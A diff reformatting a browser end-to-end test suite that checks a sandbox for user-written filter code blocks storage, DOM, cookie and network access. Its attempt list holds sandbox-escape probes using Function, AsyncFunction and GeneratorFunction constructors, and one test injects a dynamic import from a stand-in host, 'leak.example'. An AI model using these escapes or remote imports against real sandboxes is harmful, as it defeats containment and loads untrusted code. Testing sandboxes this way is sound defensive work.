@@ -15,7 +15,7 @@ const ATTEMPTS: [sf: string, code: string, message: string][] = [
   ['write_storage', "(localStorage.setItem('pwned', '1'), true)", 'localStorage.setItem is blocked: SF code cannot use browser storage'],
   ['open_db', "indexedDB.open('pwned') !== null", 'indexedDB.open is blocked: SF code cannot use browser storage'],
   ['touch_dom', "(document.body.innerHTML = 'pwned') !== ''", 'document.body is blocked: SF code cannot reach the page'],
-  ['via_window', "window.localStorage.length > 0", 'window.localStorage is blocked: SF code cannot use browser storage'],
+  ['via_window', 'window.localStorage.length > 0', 'window.localStorage is blocked: SF code cannot use browser storage'],
   ['ctor_escape', "(() => 0).constructor('return globalThis')().fetch !== undefined", 'The Function constructor is blocked'],
   ['async_escape', "(async () => 0).constructor('return fetch(1)') !== null", 'The AsyncFunction constructor is blocked'],
   ['gen_escape', "(function* () {}).constructor('yield 1') !== null", 'The GeneratorFunction constructor is blocked'],
@@ -45,15 +45,21 @@ test('SF code cannot reach the page, storage, cookies or the network; each attem
   }
   // The harmless SF still ran; nothing reached the page or the network.
   await expect(app.editor.sliceCount('fine')).toBeVisible();
-  expect(await page.evaluate(() => [localStorage.getItem('pwned'), document.cookie.includes('pwned'), document.body.innerHTML === 'pwned'])).toEqual([null, false, false]);
+  expect(
+    await page.evaluate(() => [localStorage.getItem('pwned'), document.cookie.includes('pwned'), document.body.innerHTML === 'pwned']),
+  ).toEqual([null, false, false]);
   expect(requests).toEqual([]);
 });
 
 test('dynamic import() and import.meta are rejected before anything runs, with line and column', async ({ app }) => {
   await app.open();
-  await app.editor.replaceSfSource("export const fine = (row: Row) => row.z0 > 0;\nexport const load = (row: Row) => import('https://leak.example/x.js') !== null;\n");
+  await app.editor.replaceSfSource(
+    "export const fine = (row: Row) => row.z0 > 0;\nexport const load = (row: Row) => import('https://leak.example/x.js') !== null;\n",
+  );
   await app.editor.applyWithKeyboard();
-  await expect(app.editor.sfErrors()).toContainText('Dynamic import() is blocked (line 2, column 35): SF code cannot load code or reach the network');
+  await expect(app.editor.sfErrors()).toContainText(
+    'Dynamic import() is blocked (line 2, column 35): SF code cannot load code or reach the network',
+  );
   const problem = await app.editor.firstProblem();
   expect(problem.line).toBe(2);
   await app.editor.replaceSfSource('export const where = (row: Row) => import.meta.url.length > 0;\n');
